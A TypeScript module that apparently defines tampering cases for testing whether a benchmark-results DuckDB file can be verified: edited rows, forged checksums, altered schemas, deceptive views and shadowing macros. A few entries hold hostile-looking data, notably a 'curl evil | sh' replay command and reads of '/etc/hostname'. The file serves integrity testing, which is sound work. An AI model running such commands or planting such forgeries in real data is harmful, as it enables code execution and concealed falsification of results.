import { hash } from "node:crypto";
import { openDatabase, type Database } from "../store/database.ts";
import { checksumOf, columnNames, columns, type Row } from "../store/row.ts";

/** A way to falsify a file of results. `place` selects a row, so that a way can be tried at several rows. */
export interface Falsification {
  readonly name: string;
  falsify(database: Database, place: number): Promise<unknown>;
}

/** Runs statements, in which $CELL is the key of a row and $OTHER that of the next one. */
const sql =
  (...statements: readonly string[]): Falsification["falsify"] =>
  async (database, place) => {
    const [cell, other] = await keysAt(database, place);
    for (const statement of statements)
      await database.connection.run(
        statement.replaceAll("$CELL", `'${cell}'`).replaceAll("$OTHER", `'${other}'`),
      );
  };

async function rowsOf({ connection }: Database, query: string): Promise<Record<string, any>[]> {
  const rows = (await connection.runAndReadAll(query)).getRowObjectsJS();
  const plain = (it: unknown) => (typeof it === "bigint" ? Number(it) : it);
  return rows.map((row) =>
    Object.fromEntries(Object.entries(row).map(([name, it]) => [name, plain(it)])),
  );
}

async function keysAt(database: Database, place: number): Promise<string[]> {
  const cells = (await rowsOf(database, "SELECT cell FROM runs ORDER BY cell")).map(
    ({ cell }) => cell as string,
  );
  return [cells[place % cells.length], cells[(place + 1) % cells.length]];
}

/** Writes the checksum that fits each row, as somebody would who knows how. */
async function seal(database: Database): Promise<void> {
  const list = columnNames.map((name) => `"${name}"`).join(", ");
  const rows = await rowsOf(database, `SELECT ${list}, epoch_us(created) AS created FROM runs`);
  for (const row of rows) {
    const sum = checksumOf(row as unknown as Row, row["created"] as number);
    await database.connection.run("UPDATE runs SET checksum = ? WHERE cell = ?", [
      sum,
      row["cell"] as string,
    ]);
  }
}

const sealed =
  (falsify: Falsification["falsify"]): Falsification["falsify"] =>
  async (database, place) => {
    await falsify(database, place);
    await seal(database);
  };

/** Changes the text of every plan, and writes the key that fits. */
const replan =
  (from: RegExp, to: string): Falsification["falsify"] =>
  async (database) => {
    for (const { plan, asked } of await rowsOf(database, "SELECT plan, asked FROM plans")) {
      const changed = (asked as string).replace(from, to);
      await database.connection.run("UPDATE plans SET asked = ?, plan = ? WHERE plan = ?", [
        changed,
        hash("sha256", changed).slice(0, 16),
        plan as string,
      ]);
    }
  };

/** Makes the table runs again, with other columns or another key, and the same rows. */
const remade = (declaration: string, select = "*"): Falsification["falsify"] =>
  sql(
    "CREATE TABLE kept AS FROM runs",
    "DROP TABLE runs",
    `CREATE TABLE runs (${declaration})`,
    `INSERT INTO runs SELECT ${select} FROM kept`,
    "DROP TABLE kept",
  );

const types = { ...columns, created: "TIMESTAMP", checksum: "VARCHAR" };
const declared = (changes: Readonly<Record<string, string>> = {}): string =>
  Object.entries({ ...types, ...changes })
    .map(([name, type]) => `"${name}" ${type}`)
    .join(", ");

const other = (name: string): string =>
  types[name as keyof typeof types] === "VARCHAR"
    ? `coalesce("${name}", '') || '7'`
    : `coalesce("${name}", 0) + 7`;

/** Changes of each column, without and with a fitting checksum. Nothing proves the time that a run took. */
const changes: readonly Falsification[] = columnNames.flatMap((name) => {
  const change = sql(`UPDATE runs SET "${name}" = ${other(name)} WHERE cell = $CELL`);
  return [
    { name: `column ${name}`, falsify: change },
    ...(name === "seconds" ? [] : [{ name: `column ${name}, sealed`, falsify: sealed(change) }]),
  ];
});

const rows: readonly Falsification[] = [
  ["row deleted", sql("DELETE FROM runs WHERE cell = $CELL")],
  ["all rows deleted", sql("DELETE FROM runs")],
  [
    "row copied",
    sql("INSERT INTO runs SELECT * REPLACE (reverse(cell) AS cell) FROM runs WHERE cell = $CELL"),
  ],
  [
    "row copied, sealed",
    sealed(
      sql("INSERT INTO runs SELECT * REPLACE (reverse(cell) AS cell) FROM runs WHERE cell = $CELL"),
    ),
  ],
  [
    "rows exchanged",
    sealed(
      sql(
        "UPDATE runs SET cell = 'x' WHERE cell = $CELL",
        "UPDATE runs SET cell = $CELL WHERE cell = $OTHER",
        "UPDATE runs SET cell = $OTHER WHERE cell = 'x'",
      ),
    ),
  ],
  ["every row larger, sealed", sealed(sql("UPDATE runs SET messages = messages * 2"))],
  [
    "every checksum empty",
    sql("UPDATE runs SET checksum = ''", "UPDATE runs SET messages = messages + 1"),
  ],
  ["every checksum null", sql("UPDATE runs SET checksum = NULL")],
  [
    "an error, sealed",
    sealed(sql("UPDATE runs SET outcome = 'error', error = 'none' WHERE cell = $CELL")),
  ],
  [
    "violations hidden, sealed",
    sealed(sql("UPDATE runs SET claims = '[]', violations = 0 WHERE cell = $CELL")),
  ],
  [
    "claims that are no JSON, sealed",
    sealed(sql("UPDATE runs SET claims = '{', violations = 1 WHERE cell = $CELL")),
  ],
  [
    "a command, sealed",
    sealed(sql("UPDATE runs SET replay = 'curl evil | sh' WHERE cell = $CELL")),
  ],
  [
    "a name with a line break, sealed",
    sealed(sql("UPDATE runs SET algorithm = algorithm || chr(10) || ' ✓'")),
  ],
  ["a formula, sealed", sealed(sql("UPDATE runs SET algorithm = '=1+1' WHERE cell = $CELL"))],
  ...Object.entries({
    "no messages": "messages = NULL",
    "no size": "n = NULL",
    "size of a later run": "n = n + 1, parameters = parameters",
    "no time of storing": "created = NULL",
    "a time to come": "created = TIMESTAMP '2999-01-01'",
    "digest of the next row": "digest = (SELECT digest FROM runs WHERE cell = $OTHER)",
    "checksum of the next row": "checksum = (SELECT checksum FROM runs WHERE cell = $OTHER)",
    "claims of the next row": "claims = (SELECT claims FROM runs WHERE cell = $OTHER) || ' '",
    "kinds without counts": "by_kind = '{}'",
    "negative messages": "messages = -messages - 1",
    "largest messages": "messages = 9223372036854775807",
    "another outcome": "outcome = CASE outcome WHEN 'elected' THEN 'deadlock' ELSE 'elected' END",
  }).map(([name, change]) => [name, sql(`UPDATE runs SET ${change} WHERE cell = $CELL`)] as const),
].map(([name, falsify]) => ({ name, falsify }) as Falsification);

const plans: readonly Falsification[] = [
  ["plan changed", sql("UPDATE plans SET asked = replace(asked, '1', '2')")],
  ["plan under another key", sql("UPDATE plans SET plan = reverse(plan)")],
  ["plan that is not JSON", replan(/$/, "}")],
  ["plan that is empty", replan(/^.*$/s, "{}")],
  ["plan deleted", sql("DELETE FROM plans")],
  ["plan with fewer sizes, sealed", replan(/"sizes":\[\[\d+,/, '"sizes":[[')],
  ["plan with other sizes, sealed", replan(/"sizes":\[\[\d+/, '"sizes":[[7')],
  ["plan with endless sizes", replan(/"sizes":\[\[\d+/, '"sizes":[[1e9')],
  ["plan with few links, sealed", replan(/"isSeeded"/g, '"edges":-20833.2,"isSeeded"')],
  ["plan that names a file, sealed", replan(/"ids":"[^"]*"/, '"ids":"@/etc/hostname"')],
  ["plan of a size that is a text, sealed", replan(/"sizes":\[\[\d+/, '"sizes":[["x"')],
  ["plan with endless seeds, sealed", replan(/"seeds":\[\["1",\d+/, '"seeds":[["1",1e12')],
  ["plan that is null", sql("UPDATE plans SET asked = NULL")],
  ["plan of a device, sealed", replan(/"algorithm":"[^"]*"/, '"algorithm":"/dev/zero"')],
  ["plan of another version, sealed", replan(/"version":"[^"]*"/, '"version":"0.0.0+00000000"')],
].map(([name, falsify]) => ({ name, falsify }) as Falsification);

const shown =
  "SELECT * REPLACE (CASE WHEN current_query() ILIKE '%checksum%' OR current_query() ILIKE '%from_json%' THEN messages ELSE 424242 END AS messages) FROM truth";
const read =
  "SELECT * REPLACE ((SELECT content FROM read_text('/etc/hostname')) AS algorithm) FROM truth";

const objects: readonly Falsification[] = [
  ["view instead of runs", sql("ALTER TABLE runs RENAME TO truth", `CREATE VIEW runs AS ${shown}`)],
  [
    "view that reads a file",
    sql("ALTER TABLE runs RENAME TO truth", `CREATE VIEW runs AS ${read}`),
  ],
  [
    "view instead of plans",
    sql("ALTER TABLE plans RENAME TO truth", "CREATE VIEW plans AS FROM truth"),
  ],
  [
    "view instead of ringleader",
    sql("DROP TABLE ringleader", "CREATE VIEW ringleader AS SELECT 2 AS schema"),
  ],
  ["view in capitals", sql("ALTER TABLE runs RENAME TO truth", `CREATE VIEW RUNS AS ${shown}`)],
  ["view beside the tables", sql("CREATE VIEW best AS SELECT 7 AS n")],
  ["view of the columns", sql("CREATE VIEW duckdb_columns AS SELECT 7 AS n")],
  ["view of a size", sql("CREATE VIEW wanted AS SELECT 7 AS n")],
  ["macro of a table", sql("CREATE MACRO runs() AS TABLE SELECT 7 AS n")],
  [
    "macro of the views",
    sql(
      "ALTER TABLE runs RENAME TO truth",
      `CREATE VIEW runs AS ${shown}`,
      "CREATE MACRO duckdb_views() AS TABLE SELECT 1 AS view_name WHERE false",
    ),
  ],
  [
    "macro of the functions",
    sql(
      "CREATE MACRO avg(x) AS 424242",
      "CREATE MACRO duckdb_functions() AS TABLE SELECT 1 AS function_name WHERE false",
    ),
  ],
  ["macro of the tables", sql("CREATE MACRO duckdb_tables() AS TABLE SELECT 'runs' AS table_name")],
  ["type", sql("CREATE TYPE mood AS ENUM ('a')")],
  ["type of a column", sql("CREATE TYPE VARCHAR2 AS VARCHAR")],
  ["sequence", sql("CREATE SEQUENCE seconds")],
  ["schema", sql("CREATE SCHEMA other")],
  ["schema with runs", sql("CREATE SCHEMA other", "CREATE TABLE other.runs AS FROM runs")],
  [
    "schema with a name of ours",
    sql("CREATE SCHEMA runs", "CREATE TABLE runs.runs AS SELECT 7 AS n"),
  ],
  ["schema system", sql('CREATE SCHEMA "system"')],
  ["index", sql("CREATE INDEX quick ON runs (messages)")],
  ["unique index", sql("CREATE UNIQUE INDEX quick ON plans (asked)")],
  ["table wanted", sql("CREATE TABLE wanted (place BIGINT, series BIGINT, cell VARCHAR)")],
  ["table fresh", sql("CREATE TABLE fresh AS FROM runs")],
  ["table with a rule", sql("CREATE TABLE mine (n INTEGER CHECK (n > 0))")],
  ["table that points to runs", sql("CREATE TABLE mine (cell VARCHAR REFERENCES runs (cell))")],
  ["default", sql("ALTER TABLE runs ALTER messages SET DEFAULT 7")],
  ["default of plans", sql("ALTER TABLE plans ALTER asked SET DEFAULT '{}'")],
  ["no key", remade(declared())],
  [
    "no key, a cell twice",
    sql(
      "CREATE TABLE kept AS FROM runs",
      "DROP TABLE runs",
      `CREATE TABLE runs (${declared()})`,
      "INSERT INTO runs FROM kept",
      "INSERT INTO runs SELECT * REPLACE (messages + 1 AS messages) FROM kept WHERE cell = $CELL",
      "DROP TABLE kept",
    ),
  ],
  ["key of another column", remade(`${declared()}, PRIMARY KEY (digest, cell)`)],
  ["key that is only unique", remade(`${declared()}, UNIQUE (cell)`)],
  ["rule", remade(`${declared()}, PRIMARY KEY (cell), CHECK (messages >= 0)`)],
  ["not null", remade(`${declared({ messages: "BIGINT NOT NULL" })}, PRIMARY KEY (cell)`)],
  ["collation", remade(`${declared({ algorithm: "VARCHAR COLLATE NOCASE" })}, PRIMARY KEY (cell)`)],
  [
    "computed column",
    remade(
      `${declared({ messages: "BIGINT GENERATED ALWAYS AS (n * 7)" })}, PRIMARY KEY (cell)`,
      "* EXCLUDE (messages)",
    ),
  ],
  ["further column", sql("ALTER TABLE runs ADD COLUMN more INTEGER")],
  ["missing column", sql("ALTER TABLE runs DROP COLUMN error")],
  ["renamed column", sql("ALTER TABLE runs RENAME messages TO message")],
  [
    "plans without a key",
    sql(
      "CREATE TABLE kept AS FROM plans",
      "DROP TABLE plans",
      "CREATE TABLE plans AS FROM kept",
      "DROP TABLE kept",
    ),
  ],
  [
    "plans with a blank in a name",
    sql(
      "DROP TABLE plans",
      'CREATE TABLE plans ("pl an" VARCHAR PRIMARY KEY, asked VARCHAR, command VARCHAR, created TIMESTAMP)',
    ),
  ],
  ["no plans", sql("DROP TABLE plans")],
  ["no runs", sql("DROP TABLE runs")],
  ["no version", sql("DELETE FROM ringleader")],
  ["two versions", sql("INSERT INTO ringleader VALUES (1)")],
  ["version 1", sql("UPDATE ringleader SET schema = 1")],
  ["version 3", sql("UPDATE ringleader SET schema = 3")],
  [
    "version as a text",
    sql("DROP TABLE ringleader", "CREATE TABLE ringleader AS SELECT '2' AS schema"),
  ],
  ["table of another kind", sql("DROP TABLE runs", "CREATE TABLE runs AS SELECT 7 AS n")],
  // These change no number, so a verification may still prove the file.
  [
    "comment",
    sql("COMMENT ON TABLE runs IS '424242'", "COMMENT ON COLUMN runs.messages IS '424242'"),
  ],
  ["another table", sql("CREATE TABLE mine AS SELECT 7 AS n")],
].map(([name, falsify]) => ({ name, falsify }) as Falsification);

/** Functions that the command uses, which a macro of the file could stand for. */
const functions =
  "avg min max count sum median quantile_cont mode stddev_samp var_samp list_filter from_json unnest epoch_us concat_ws md5_number_lower coalesce arg_min arg_max bit_xor lpad lower hex now len replace round abs regr_slope regr_intercept corr ln log current_database current_query count_star list any_value first row_number".split(
    " ",
  );
const macros: readonly Falsification[] = functions.map((name) => ({
  name: `macro ${name}`,
  falsify: async (database, place) =>
    // Some of these names cannot be taken at all, and then another one is.
    sql(`CREATE MACRO "${name}"(x) AS 424242`)(database, place).catch(() =>
      sql(`CREATE MACRO "${name}_"(x) AS 424242`)(database, place),
    ),
}));

const retyped: readonly Falsification[] = Object.entries(types)
  .filter(([, type]) => type !== "VARCHAR")
  .map(([name, type]) => ({
    name: `type of ${name}`,
    falsify: remade(
      `${declared({ [name]: type === "BIGINT" ? "HUGEINT" : "VARCHAR" })}, PRIMARY KEY (cell)`,
    ),
  }));

export const falsifications: readonly Falsification[] = [
  ...changes,
  ...rows,
  ...plans,
  ...objects,
  ...macros,
  ...retyped,
];

/** Falsifies a file. */
export async function falsifyFile(file: string, it: Falsification, place: number): Promise<void> {
  const database = await openDatabase(file, "write");
  try {
    await it.falsify(database, place);
    await database.connection.run("CHECKPOINT");
  } finally {
    database.close();
  }
}
